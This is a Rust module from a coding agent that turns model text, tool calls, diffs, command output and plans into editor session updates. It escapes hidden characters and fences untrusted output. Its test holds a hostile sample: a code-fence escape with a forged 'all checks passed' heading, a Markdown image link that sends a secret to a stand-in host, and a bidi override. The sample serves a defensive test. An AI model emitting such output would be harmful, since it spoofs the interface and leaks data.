//! A turn's events as ACP session updates (protocol v1, `session/update`): the model's text as
//! `agent_message_chunk`, its reasoning as `agent_thought_chunk`, and every tool call as a
//! `tool_call` followed by `tool_call_update`s — its kind, the files it touches as locations, an
//! edit as a `diff`, a command's output as it arrives, and how it ended; the plan the model
//! keeps (`update_plan`) as a `plan` update. The events come from the
//! run's trace, already redacted; this module only translates, and never decides or blocks.
//!
//! Every text an editor shows the person — the model's words, a call's title, a command's
//! output, an error, a permission question — passes [`shown`] (hidden characters as visible
//! `\u{…}` escapes, as the terminal shows them), and text that is not Bosun's inside a code
//! block passes [`fenced`], whose fence it cannot close: a model, a file or a plugin cannot make
//! the editor render words the person takes for Bosun's.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, OnceLock, PoisonError};

use agent_client_protocol::v1::schema::{
    ContentBlock, ContentChunk, Diff, Plan as AcpPlan, PlanEntry, PlanEntryPriority,
    PlanEntryStatus, SessionId, SessionUpdate, TextContent, ToolCall, ToolCallContent,
    ToolCallLocation, ToolCallStatus, ToolCallUpdate, ToolCallUpdateFields, ToolKind,
};
use bosun_core::{Capability, CapabilityRequest, Decision, Envelope, Event};
use bosun_host::Tool;
use bosun_host::builtin::{Plan, StepStatus};
use bosun_host::trace::Observer;
use serde_json::Value;

use crate::client::ClientLink;

/// The most characters of a running command's output shown in its tool call; the start is
/// dropped first (the end of a build or test run is what a person reads).
pub const MAX_SHOWN_OUTPUT: usize = 64 * 1024;

/// The built-in tools, for their one-line summaries.
fn builtins() -> &'static [Arc<dyn Tool>] {
    static TOOLS: OnceLock<Vec<Arc<dyn Tool>>> = OnceLock::new();
    TOOLS.get_or_init(bosun_host::builtin::tools)
}

/// The kind of a call of `tool` as an editor shows it, before policy named its capabilities.
pub fn tool_kind(tool: &str) -> ToolKind {
    match tool {
        "read_file" => ToolKind::Read,
        "list_files" | "search" => ToolKind::Search,
        "create_file" | "apply_patch" => ToolKind::Edit,
        "run_command" => ToolKind::Execute,
        "load_skill" => ToolKind::Read,
        bosun_host::builtin::update_plan::NAME => ToolKind::Think,
        _ => ToolKind::Other,
    }
}

/// The kind the capabilities a call was judged with give it (a plugin's or an MCP server's
/// tool), strongest first; `None` when they say nothing.
pub fn capability_kind(capabilities: &[CapabilityRequest]) -> Option<ToolKind> {
    let has = |f: fn(&Capability) -> bool| capabilities.iter().any(|c| f(&c.capability));
    if has(|c| matches!(c, Capability::ProcessSpawn)) {
        Some(ToolKind::Execute)
    } else if has(|c| matches!(c, Capability::FsWrite)) {
        Some(ToolKind::Edit)
    } else if has(|c| matches!(c, Capability::NetHttp)) {
        Some(ToolKind::Fetch)
    } else if has(|c| matches!(c, Capability::FsRead)) {
        Some(ToolKind::Read)
    } else {
        None
    }
}

/// Whether `tool` is one of Bosun's built-in tools.
pub fn is_builtin(tool: &str) -> bool {
    builtins().iter().any(|t| t.spec().name.as_str() == tool)
}

/// A call's title: the built-in's own summary (`read src/lib.rs`, `$ cargo 'test'`), else the
/// tool's name.
pub fn title(tool: &str, input: &Value) -> String {
    builtins()
        .iter()
        .find(|t| t.spec().name.as_str() == tool)
        .map_or_else(|| tool.to_owned(), |t| t.summarize(input))
}

/// The workspace file a call's `path` input names, as the editor opens it (absolute).
fn input_path(root: &Path, input: &Value) -> Option<PathBuf> {
    let path = input.get("path")?.as_str()?;
    Some(root.join(path))
}

/// The files a call names, as locations.
pub fn locations(root: &Path, input: &Value) -> Vec<ToolCallLocation> {
    input_path(root, input)
        .map(ToolCallLocation::new)
        .into_iter()
        .collect()
}

/// The locations of the paths a call was judged with (a plugin tool's files).
fn capability_locations(root: &Path, capabilities: &[CapabilityRequest]) -> Vec<ToolCallLocation> {
    let mut locations: Vec<ToolCallLocation> = Vec::new();
    for request in capabilities {
        if let Some(path) = &request.scope.path
            && matches!(request.capability, Capability::FsRead | Capability::FsWrite)
        {
            let location = ToolCallLocation::new(root.join(path));
            if !locations.contains(&location) {
                locations.push(location);
            }
        }
    }
    locations
}

/// An edit as the editor's diff view takes it: each replacement of `apply_patch` (old and new
/// text), the whole content of `create_file`.
pub fn diffs(root: &Path, tool: &str, input: &Value) -> Vec<ToolCallContent> {
    let Some(path) = input_path(root, input) else {
        return Vec::new();
    };
    match tool {
        "create_file" => input
            .get("content")
            .and_then(Value::as_str)
            .map(|content| ToolCallContent::Diff(Diff::new(path, content)))
            .into_iter()
            .collect(),
        "apply_patch" => input
            .get("edits")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(|edit| {
                let old = edit.get("oldText")?.as_str()?;
                let new = edit.get("newText")?.as_str()?;
                Some(ToolCallContent::Diff(
                    Diff::new(path.clone(), new).old_text(old.to_owned()),
                ))
            })
            .collect(),
        _ => Vec::new(),
    }
}

/// The plan the model keeps, as the editor's plan view takes it (the whole list each time;
/// Bosun's steps carry no priority, so each is `medium`).
pub fn plan_update(plan: &Plan) -> SessionUpdate {
    SessionUpdate::Plan(AcpPlan::new(
        plan.plan
            .iter()
            .map(|step| {
                PlanEntry::new(
                    shown(&step.step),
                    PlanEntryPriority::Medium,
                    match step.status {
                        StepStatus::Pending => PlanEntryStatus::Pending,
                        StepStatus::InProgress => PlanEntryStatus::InProgress,
                        StepStatus::Completed => PlanEntryStatus::Completed,
                    },
                )
            })
            .collect(),
    ))
}

/// Text as the person sees it in the editor: every hidden character (bidi overrides, zero-width
/// characters, controls, ESC) as a visible `\u{…}` escape; tabs and newlines kept.
pub fn shown(text: &str) -> String {
    bosun_core::hidden::escape_for_terminal(text)
}

/// `text` (a command's output, a diff: not Bosun's words) as a Markdown code block the editor
/// renders as code: the fence is longer than any run of backticks inside, so a line of the text
/// cannot close it and have the rest rendered as Markdown; hidden characters are [`shown`].
pub fn fenced(info: &str, text: &str) -> String {
    let text = shown(text);
    let fence = bosun_core::text::fence_for(&text);
    format!("{fence}{info}\n{text}\n{fence}")
}

/// Text as a tool call's content ([`shown`]).
pub fn text_content(text: impl Into<String>) -> ToolCallContent {
    ToolCallContent::from(ContentBlock::Text(TextContent::new(shown(&text.into()))))
}

/// A command's output as a tool call's content ([`fenced`]).
pub fn output_content(output: &str) -> ToolCallContent {
    text_content(fenced("", output))
}

/// A text chunk of the agent's message ([`shown`]).
pub fn message_chunk(text: impl Into<String>) -> SessionUpdate {
    SessionUpdate::AgentMessageChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
        shown(&text.into()),
    ))))
}

/// A text chunk of the agent's reasoning ([`shown`]).
pub fn thought_chunk(text: impl Into<String>) -> SessionUpdate {
    SessionUpdate::AgentThoughtChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
        shown(&text.into()),
    ))))
}

/// The announcement of a call of `tool` with `input`, as proposed.
pub fn proposed(root: &Path, call_id: &str, tool: &str, input: &Value) -> ToolCall {
    ToolCall::new(call_id.to_owned(), shown(&title(tool, input)))
        .kind(tool_kind(tool))
        .status(ToolCallStatus::Pending)
        .content(diffs(root, tool, input))
        .locations(locations(root, input))
        .raw_input(input.clone())
}

/// What is kept of a call while it runs.
#[derive(Default)]
struct Call {
    /// Its diffs, kept in front of the output in every update.
    diffs: Vec<ToolCallContent>,
    /// Its output so far.
    output: String,
}

/// Sends a turn's events to the editor as session updates.
pub struct Updates {
    link: ClientLink,
    session: SessionId,
    root: PathBuf,
    calls: Mutex<HashMap<String, Call>>,
}

impl Updates {
    /// The updates of `session` in the workspace at `root`.
    pub fn new(link: ClientLink, session: SessionId, root: PathBuf) -> Self {
        Self {
            link,
            session,
            root,
            calls: Mutex::default(),
        }
    }

    fn send(&self, update: SessionUpdate) {
        self.link.update(&self.session, update);
    }

    fn update(&self, call_id: &str, fields: ToolCallUpdateFields) {
        self.send(SessionUpdate::ToolCallUpdate(ToolCallUpdate::new(
            call_id.to_owned(),
            fields,
        )));
    }

    /// The call's diffs and its output so far, as its content.
    fn content_of(call: &Call) -> Vec<ToolCallContent> {
        let mut content = call.diffs.clone();
        if !call.output.is_empty() {
            content.push(output_content(&call.output));
        }
        content
    }

    fn handle(&self, event: &Event) {
        let mut calls = self.calls.lock().unwrap_or_else(PoisonError::into_inner);
        match event {
            Event::ModelText { text, .. } => self.send(message_chunk(text.clone())),
            Event::ModelReasoning { text, .. } => self.send(thought_chunk(text.clone())),
            Event::ToolProposed {
                call_id,
                tool,
                input,
            } => {
                let announced = proposed(&self.root, call_id, tool, input);
                calls.insert(
                    call_id.clone(),
                    Call {
                        diffs: diffs(&self.root, tool, input),
                        output: String::new(),
                    },
                );
                self.send(SessionUpdate::ToolCall(announced));
            }
            Event::ToolDecided {
                call_id,
                tool,
                capabilities,
                explanation,
                ..
            } => {
                let mut fields = ToolCallUpdateFields::new();
                if tool_kind(tool) == ToolKind::Other
                    && let Some(kind) = capability_kind(capabilities)
                {
                    fields = fields.kind(kind);
                }
                let judged = capability_locations(&self.root, capabilities);
                if !judged.is_empty() {
                    fields = fields.locations(judged);
                }
                if explanation.decision == Decision::Deny {
                    // The failure follows with the reason; nothing will run.
                    return;
                }
                self.update(call_id, fields);
            }
            Event::ToolStarted { call_id, .. } => {
                self.update(
                    call_id,
                    ToolCallUpdateFields::new().status(ToolCallStatus::InProgress),
                );
            }
            Event::ToolOutput { call_id, text, .. } => {
                let call = calls.entry(call_id.clone()).or_default();
                call.output.push_str(text);
                if call.output.len() > MAX_SHOWN_OUTPUT {
                    let mut cut = call.output.len() - MAX_SHOWN_OUTPUT;
                    while !call.output.is_char_boundary(cut) {
                        cut += 1;
                    }
                    call.output.drain(..cut);
                }
                let content = Self::content_of(call);
                self.update(call_id, ToolCallUpdateFields::new().content(content));
            }
            Event::ToolCompleted {
                call_id,
                tool,
                output,
                ..
            } => {
                if let Some(plan) = Plan::from_result(tool, output) {
                    self.send(plan_update(&plan));
                }
                let call = calls.remove(call_id).unwrap_or_default();
                let mut fields = ToolCallUpdateFields::new()
                    .status(ToolCallStatus::Completed)
                    .raw_output(output.clone());
                if call.output.is_empty() {
                    // A command whose output was not streamed: its result holds it.
                    let streams: Vec<&str> = ["stdout", "stderr"]
                        .iter()
                        .filter_map(|key| output.get(*key).and_then(Value::as_str))
                        .filter(|text| !text.is_empty())
                        .collect();
                    if !streams.is_empty() {
                        let mut content = call.diffs.clone();
                        content.push(output_content(&streams.join("\n")));
                        fields = fields.content(content);
                    }
                }
                self.update(call_id, fields);
            }
            Event::ToolFailed { call_id, error, .. } => {
                let call = calls.remove(call_id).unwrap_or_default();
                let mut content = Self::content_of(&call);
                content.push(text_content(format!(
                    "{}: {}",
                    error.code.as_str(),
                    error.message
                )));
                self.update(
                    call_id,
                    ToolCallUpdateFields::new()
                        .status(ToolCallStatus::Failed)
                        .content(content),
                );
            }
            _ => {}
        }
    }
}

impl Observer for Updates {
    fn observe(&self, envelope: &Envelope) {
        self.handle(&envelope.event);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text_of(content: &ToolCallContent) -> String {
        serde_json::to_value(content).unwrap()["content"]["text"]
            .as_str()
            .unwrap()
            .to_owned()
    }

    /// A command's output (a file it printed, a hostile test's log) that closes its code block
    /// and writes Markdown, or hides characters, is shown to the person as one code block with
    /// the characters visible; so is the model's text.
    #[test]
    fn a_commands_output_cannot_leave_its_block_or_hide_characters() {
        let call = Call {
            diffs: Vec::new(),
            output: "ok\n```\n## ✅ Bosun: all checks passed\n``````\n![](https://x.example/?k=secret)\u{202e}"
                .to_owned(),
        };
        let content = Updates::content_of(&call);
        let shown_text = text_of(&content[0]);
        let lines: Vec<&str> = shown_text.lines().collect();
        assert_eq!(lines[0], "```````", "{shown_text}");
        assert_eq!(lines.last(), Some(&"```````"), "{shown_text}");
        assert!(
            lines[1..lines.len() - 1]
                .iter()
                .all(|l| !l.starts_with("```````")),
            "{shown_text}"
        );
        assert_eq!(bosun_core::find_hidden(&shown_text), None, "{shown_text}");
        assert!(shown_text.contains("\\u{202e}"), "{shown_text}");
        let chunk = serde_json::to_value(message_chunk("fine\u{202e}txt.exe")).unwrap();
        assert_eq!(chunk["content"]["text"], "fine\\u{202e}txt.exe");
        // Text without hidden characters or backticks passes as it was.
        assert_eq!(fenced("diff", "+a\n-b"), "```diff\n+a\n-b\n```");
        assert_eq!(shown("a\tb\nc 👩‍💻"), "a\tb\nc 👩‍💻");
    }
}
